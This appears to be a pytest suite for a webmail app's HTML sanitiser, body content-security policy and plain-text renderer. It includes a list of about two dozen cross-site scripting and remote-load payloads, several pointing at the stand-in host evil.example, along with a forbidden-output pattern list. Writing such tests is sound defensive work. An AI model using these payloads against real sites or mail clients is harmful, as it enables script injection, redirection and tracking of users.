"""The HTML sanitiser and plain-text rendering, on their output (the browser suite checks the page)."""

from __future__ import annotations

import pytest

from webmail.render.plaintext import flowed_join, text_to_html
from webmail.render.sanitize import body_csp, html_sanitize

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<form action="http://evil.example/"><input name=p><button>go</button></form>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<<script>script>alert(1)<</script>/script>",
    '<img src="http://evil.example/track.gif">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="http://ok.example/" onclick="alert(1)">ok</a>',
    '<img srcset="http://evil.example/a.png 1x">',
    '<video poster="http://evil.example/p.png"></video>',
    '<table background="http://evil.example/bg.png"><tr><td>x</td></tr></table>',
]


FORBIDDEN_OUTPUT = (
    "<script", "onerror", "onload", "onbegin", "onclick", "javascript:", "<iframe", "<svg", "<form",
    "<base", "<meta", "<object", "<embed", "<link", "<style", "evil.example", "expression(", "srcset",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_lose_script_and_remote_content(payload):
    """No script, event handler, javascript:/data: link, remote URL or form survives."""
    cleaned = html_sanitize(payload).html.lower()
    for needle in FORBIDDEN_OUTPUT:
        assert needle not in cleaned, (payload, cleaned)


def test_remote_images_blocked_and_counted_unless_allowed():
    """Remote images are removed and counted; with permission they stay."""
    html = '<p>Hi</p><img src="https://img.example/a.png"><img src="http://img.example/b.png">'
    blocked = html_sanitize(html)
    assert blocked.blocked_remote == 2
    assert "img.example" not in blocked.html
    allowed = html_sanitize(html, allow_remote=True)
    assert allowed.blocked_remote == 0
    assert 'src="https://img.example/a.png"' in allowed.html


def test_cid_images_resolve_to_data_urls():
    """cid: references become the data: URL the resolver gives; unknown ones are dropped."""
    cleaned = html_sanitize(
        '<img src="cid:logo@x"><img src="cid:missing">', cid_resolver={"logo@x": "data:image/png;base64,AAAA"}.get
    )
    assert 'src="data:image/png;base64,AAAA"' in cleaned.html
    assert "cid:" not in cleaned.html
    assert cleaned.cid_used == {"logo@x"}


def test_safe_formatting_survives():
    """Ordinary mail formatting (tables, fonts, colours, links) is kept, links open outside."""
    cleaned = html_sanitize(
        '<table border=1><tr><td style="color: red; padding: 4px">x</td></tr></table>'
        '<font color="blue">b</font><a href="https://example.org/">l</a>'
    ).html
    assert "<table" in cleaned and 'style="color:red;padding:4px"' in cleaned.replace(" ", "")
    assert '<font color="blue">' in cleaned
    assert 'target="_blank"' in cleaned and "noopener" in cleaned


def test_body_csp_is_strict():
    """The framed body's policy forbids scripts, forms, base and remote loads."""
    policy = body_csp(allow_remote=False)
    assert "script-src 'none'" in policy and "default-src 'none'" in policy
    assert "form-action 'none'" in policy and "base-uri 'none'" in policy
    assert "http:" not in policy
    assert "sandbox" in policy
    assert "https:" in body_csp(allow_remote=True)


def test_plain_text_is_escaped_and_linked():
    """Text is HTML-escaped; URLs and addresses become links; trailing punctuation stays text."""
    html = str(
        text_to_html("<script>alert(1)</script> see https://example.jp/a?b=1&c=2. or 詳細はhttps://ja.example/x")
    )
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert '<a href="https://example.jp/a?b=1&amp;c=2"' in html
    assert "</a>." in html
    assert 'href="https://ja.example/x"' in html


def test_javascript_url_in_text_is_not_linked():
    """Only http(s) and www. text becomes a link."""
    assert "href" not in str(text_to_html("javascript:alert(1)"))


def test_long_quotes_fold():
    """A quoted block longer than four lines folds into <details>; short ones do not."""
    long_quote = "reply\n" + "\n".join(f"> line {n}" for n in range(6))
    assert "<details" in str(text_to_html(long_quote))
    assert "<details" not in str(text_to_html("reply\n> one\n> two"))


def test_format_flowed_joins_soft_breaks():
    """RFC 3676: a line ending in a space continues on the next; quote depth is kept."""
    assert flowed_join("Hello \nworld\n> quoted \n> text") == "Hello world\n> quoted text"
